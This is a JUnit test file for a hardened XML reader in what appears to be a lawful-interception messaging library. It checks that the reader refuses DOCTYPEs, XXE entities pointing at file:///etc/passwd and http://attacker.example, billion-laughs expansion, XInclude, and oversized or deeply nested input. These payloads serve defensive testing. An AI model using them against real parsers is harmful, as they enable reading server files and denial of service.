package org.lexgate.message.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.lexgate.message.ErrorCode;
import org.lexgate.message.MessageRejectedException;
import org.w3c.dom.Document;

/**
 * The hardened reader on its own: hostile XML refused with its own code, in one streaming pass
 * (each test states how much the parser read before it stopped). Inputs are generated as streams.
 */
class HardenedXmlTest {

    private static final Duration HANG_GUARD = Duration.ofSeconds(120);
    private static final String ROOT_OPEN = "<HI1Message xmlns=\"http://uri.etsi.org/03120/common/2019/10/Core\">";
    private static final String ROOT_CLOSE = "</HI1Message>";

    @Test
    void plainXmlBecomesNamespaceAwareDom() throws Exception {
        Document doc = HardenedXml.parse(bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- c -->"
                + "<a:x xmlns:a=\"urn:a\" xmlns=\"urn:d\" b=\"1\"><y>t&amp;u<![CDATA[<z>]]></y><?pi data?></a:x>"));
        assertThat(doc.getDocumentElement().getNamespaceURI()).isEqualTo("urn:a");
        assertThat(doc.getDocumentElement().getLocalName()).isEqualTo("x");
        assertThat(doc.getDocumentElement().getAttribute("b")).isEqualTo("1");
        assertThat(doc.getDocumentElement().getFirstChild().getNamespaceURI()).isEqualTo("urn:d");
        assertThat(doc.getDocumentElement().getFirstChild().getTextContent()).isEqualTo("t&u<z>");
        assertThat(doc.getDocumentElement().lookupNamespaceURI("a")).isEqualTo("urn:a");
    }

    @Test
    void streamReadKeepsTheExactBytes() throws Exception {
        byte[] input = bytes(ROOT_OPEN + "  <x/>\n" + ROOT_CLOSE);
        ByteArrayOutputStream copy = new ByteArrayOutputStream();
        HardenedXml.read(new ByteArrayInputStream(input), XmlLimits.defaults(), copy);
        assertThat(copy.toByteArray()).isEqualTo(input);
    }

    @Test
    void doctypeIsRefused() {
        assertRefused(bytes("<!DOCTYPE HI1Message>" + ROOT_OPEN + ROOT_CLOSE), ErrorCode.DOCTYPE_FORBIDDEN);
        assertRefused(bytes("<!DOCTYPE HI1Message [<!ELEMENT HI1Message ANY>]>" + ROOT_OPEN + ROOT_CLOSE),
                ErrorCode.DOCTYPE_FORBIDDEN);
    }

    @Test
    void externalEntityIsRefusedBeforeAnythingIsFetched() {
        assertRefused(bytes("<!DOCTYPE HI1Message [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + ROOT_OPEN + "&xxe;" + ROOT_CLOSE), ErrorCode.EXTERNAL_ENTITY_FORBIDDEN);
        assertRefused(bytes("<!DOCTYPE HI1Message [<!ENTITY % pe SYSTEM \"http://attacker.example/x.dtd\"> %pe;]>"
                + ROOT_OPEN + ROOT_CLOSE), ErrorCode.EXTERNAL_ENTITY_FORBIDDEN);
        assertRefused(bytes("<!DOCTYPE HI1Message SYSTEM \"http://attacker.example/x.dtd\">"
                + ROOT_OPEN + ROOT_CLOSE), ErrorCode.EXTERNAL_ENTITY_FORBIDDEN);
    }

    @Test
    void billionLaughsEntityExpansionIsRefused() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE HI1Message [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"");
            dtd.append(("&lol" + (i == 1 ? "" : String.valueOf(i - 1)) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        assertRefused(bytes(dtd + ROOT_OPEN + "&lol9;" + ROOT_CLOSE), ErrorCode.ENTITY_EXPANSION_FORBIDDEN);
    }

    @Test
    void undeclaredEntityReferenceIsNotWellFormed() {
        assertRefused(bytes(ROOT_OPEN + "&lol;" + ROOT_CLOSE), ErrorCode.NOT_WELL_FORMED);
    }

    @Test
    void xincludeIsRefused() {
        assertRefused(bytes(ROOT_OPEN + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"
                + ROOT_CLOSE), ErrorCode.XINCLUDE_FORBIDDEN);
    }

    @Test
    void depthOfTenThousandIsRefused() {
        RepeatingInputStream in = new RepeatingInputStream(ROOT_OPEN, "<a>", 10_000, "");
        assertRefused(in, ErrorCode.DEPTH_LIMIT_EXCEEDED);
        assertThat(in.produced()).isLessThan(64 * 1024);
    }

    @Test
    void millionSiblingElementsAreRefused() {
        RepeatingInputStream in = new RepeatingInputStream(ROOT_OPEN, "<a/>", 1_000_000, ROOT_CLOSE);
        assertRefused(in, ErrorCode.ELEMENT_LIMIT_EXCEEDED);
        assertThat(in.produced()).isLessThan(in.totalLength());
    }

    @Test
    void tenThousandAttributesAreRefused() {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 10_000; i++) {
            attributes.append(" a").append(i).append("=\"x\"");
        }
        assertRefused(bytes("<HI1Message" + attributes + ">" + ROOT_CLOSE), ErrorCode.ATTRIBUTE_LIMIT_EXCEEDED);
    }

    @Test
    void attributesJustOverLexgateLimitAreRefusedWithTheSameCode() {
        XmlLimits limits = XmlLimits.defaults().withMaxAttributes(3);
        assertRefused(stream("<r a=\"1\" b=\"2\" c=\"3\" d=\"4\"/>"), limits, ErrorCode.ATTRIBUTE_LIMIT_EXCEEDED);
        assertRefused(stream("<r xmlns:p=\"urn:p\" a=\"1\" b=\"2\" c=\"3\"/>"), limits, ErrorCode.ATTRIBUTE_LIMIT_EXCEEDED);
    }

    @Test
    void hundredMegabyteTextNodeIsRefused() {
        RepeatingInputStream in = new RepeatingInputStream(ROOT_OPEN + "<a>", "A".repeat(1024), 100 * 1024, "</a>" + ROOT_CLOSE);
        assertRefused(in, ErrorCode.TEXT_LIMIT_EXCEEDED);
        assertThat(in.produced()).isLessThan(XmlLimits.DEFAULT_MAX_TEXT_CHARS + 1024 * 1024L);
    }

    @Test
    void hugeAttributeValueIsRefused() {
        RepeatingInputStream in = new RepeatingInputStream("<r a=\"", "A".repeat(1024), 1024, "\"/>");
        assertRefused(in, XmlLimits.defaults(), ErrorCode.TEXT_LIMIT_EXCEEDED);
    }

    @Test
    void oversizedMessageIsRefusedAfterReadingNoMoreThanTheLimit() {
        XmlLimits limits = XmlLimits.defaults().withMaxBytes(1024 * 1024);
        RepeatingInputStream in = new RepeatingInputStream(ROOT_OPEN, "<a>xxxxxxxx</a>\n", 100_000_000L, ROOT_CLOSE);
        assertRefused(in, limits.withMaxElements(Integer.MAX_VALUE), ErrorCode.MESSAGE_TOO_LARGE);
        assertThat(in.produced()).isLessThan(2 * 1024 * 1024);
    }

    @Test
    void oversizedByteArrayIsRefusedBeforeParsing() {
        XmlLimits limits = XmlLimits.defaults().withMaxBytes(10);
        MessageRejectedException e = catchThrowableOfType(MessageRejectedException.class,
                () -> HardenedXml.parse(bytes(ROOT_OPEN + ROOT_CLOSE), limits));
        assertThat(e.code()).isEqualTo(ErrorCode.MESSAGE_TOO_LARGE);
    }

    @Test
    void encodingOtherThanUtf8IsRefused() {
        assertRefused(new ByteArrayInputStream(("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + ROOT_OPEN + ROOT_CLOSE)
                .getBytes(StandardCharsets.ISO_8859_1)), ErrorCode.UNSUPPORTED_ENCODING);
    }

    @Test
    void manyEscapedCharactersDoNotTripTheJdkEntityLimits() throws Exception {
        RepeatingInputStream in = new RepeatingInputStream(ROOT_OPEN + "<a>", "&amp;&lt;&#65;", 4_000_000, "</a>" + ROOT_CLOSE);
        Document doc = assertTimeoutPreemptively(HANG_GUARD,
                () -> HardenedXml.read(in, XmlLimits.defaults(), null));
        assertThat(doc.getDocumentElement().getTextContent()).hasSize(12_000_000);
    }

    @Test
    void truncatedDocumentIsNotWellFormed() {
        assertRefused(bytes(ROOT_OPEN + "<a>"), ErrorCode.NOT_WELL_FORMED);
        assertRefused(bytes(""), ErrorCode.NOT_WELL_FORMED);
    }

    @Test
    void limitsOfOneCallDoNotCarryOverToTheNextOnTheSameThread() throws Exception {
        XmlLimits tight = XmlLimits.defaults().withMaxAttributes(3).withMaxDepth(2);
        byte[] fourAttributes = bytes("<r a=\"1\" b=\"2\" c=\"3\" d=\"4\"><x><y/></x></r>");
        for (int round = 0; round < 3; round++) {
            assertRefused(new ByteArrayInputStream(fourAttributes), tight, ErrorCode.ATTRIBUTE_LIMIT_EXCEEDED);
            assertThat(HardenedXml.parse(fourAttributes).getDocumentElement().getAttributes().getLength()).isEqualTo(4);
            assertRefused(new ByteArrayInputStream(bytes("<r><x><y/></x></r>")), tight, ErrorCode.DEPTH_LIMIT_EXCEEDED);
            assertThat(HardenedXml.parse(bytes("<r><x><y/></x></r>"), XmlLimits.defaults().withMaxAttributes(3))
                    .getElementsByTagName("y").getLength()).isEqualTo(1);
        }
    }

    @Test
    void aRefusedDocumentLeavesNothingBehindForTheNextParse() throws Exception {
        for (int round = 0; round < 3; round++) {
            assertRefused(bytes("<!DOCTYPE HI1Message [<!ENTITY e \"x\">]>" + ROOT_OPEN + "&e;" + ROOT_CLOSE),
                    ErrorCode.ENTITY_EXPANSION_FORBIDDEN);
            assertRefused(bytes(ROOT_OPEN + "<a>"), ErrorCode.NOT_WELL_FORMED);
            Document doc = HardenedXml.parse(bytes(ROOT_OPEN + "<a>t</a>" + ROOT_CLOSE));
            assertThat(doc.getDocumentElement().getTextContent()).isEqualTo("t");
            assertRefused(bytes("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>"), ErrorCode.UNSUPPORTED_ENCODING);
            assertThat(HardenedXml.parse(bytes("<r>&#233;</r>")).getDocumentElement().getTextContent()).isEqualTo("\u00e9");
        }
    }

    @Test
    void parsesOnManyThreadsAtOnceDoNotMix() throws Exception {
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
        try {
            java.util.List<java.util.concurrent.Future<String>> results = new java.util.ArrayList<>();
            for (int i = 0; i < 200; i++) {
                String text = "message-" + i;
                results.add(pool.submit(() -> HardenedXml.parse(bytes(ROOT_OPEN + "<a>" + text + "</a>" + ROOT_CLOSE))
                        .getDocumentElement().getTextContent()));
            }
            for (int i = 0; i < results.size(); i++) {
                assertThat(results.get(i).get()).isEqualTo("message-" + i);
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void domBuiltInMemoryIsHeldToTheSameLimits() throws Exception {
        Document doc = HardenedXml.newDocument();
        org.w3c.dom.Element root = doc.createElementNS("urn:r", "r");
        doc.appendChild(root);
        org.w3c.dom.Element child = doc.createElementNS("urn:r", "c");
        child.setAttributeNS(null, "a", "x".repeat(20));
        child.setTextContent("y".repeat(30));
        root.appendChild(child);

        HardenedXml.checkLimits(doc, XmlLimits.defaults());
        assertDomRefused(doc, XmlLimits.defaults().withMaxDepth(1), ErrorCode.DEPTH_LIMIT_EXCEEDED);
        assertDomRefused(doc, XmlLimits.defaults().withMaxElements(1), ErrorCode.ELEMENT_LIMIT_EXCEEDED);
        assertDomRefused(doc, XmlLimits.defaults().withMaxTextChars(29), ErrorCode.TEXT_LIMIT_EXCEEDED);
        assertDomRefused(doc, XmlLimits.defaults().withMaxAttributeChars(19), ErrorCode.TEXT_LIMIT_EXCEEDED);
        child.setAttributeNS(null, "b", "1");
        assertDomRefused(doc, XmlLimits.defaults().withMaxAttributes(1), ErrorCode.ATTRIBUTE_LIMIT_EXCEEDED);
    }

    private static void assertDomRefused(Document doc, XmlLimits limits, ErrorCode expected) {
        MessageRejectedException e = catchThrowableOfType(MessageRejectedException.class,
                () -> HardenedXml.checkLimits(doc, limits));
        assertThat(e).as("refusal").isNotNull();
        assertThat(e.code()).as(e.getMessage()).isEqualTo(expected);
    }

    private static void assertRefused(byte[] input, ErrorCode expected) {
        assertRefused(new ByteArrayInputStream(input), XmlLimits.defaults(), expected);
    }

    private static void assertRefused(InputStream input, ErrorCode expected) {
        assertRefused(input, XmlLimits.defaults(), expected);
    }

    private static void assertRefused(InputStream input, XmlLimits limits, ErrorCode expected) {
        MessageRejectedException e = assertTimeoutPreemptively(HANG_GUARD, () -> catchThrowableOfType(
                MessageRejectedException.class, () -> HardenedXml.read(input, limits, null)));
        assertThat(e).as("refusal").isNotNull();
        assertThat(e.code()).as(e.getMessage()).isEqualTo(expected);
    }

    private static InputStream stream(String xml) {
        return new ByteArrayInputStream(bytes(xml));
    }

    private static byte[] bytes(String xml) {
        return xml.getBytes(StandardCharsets.UTF_8);
    }
}
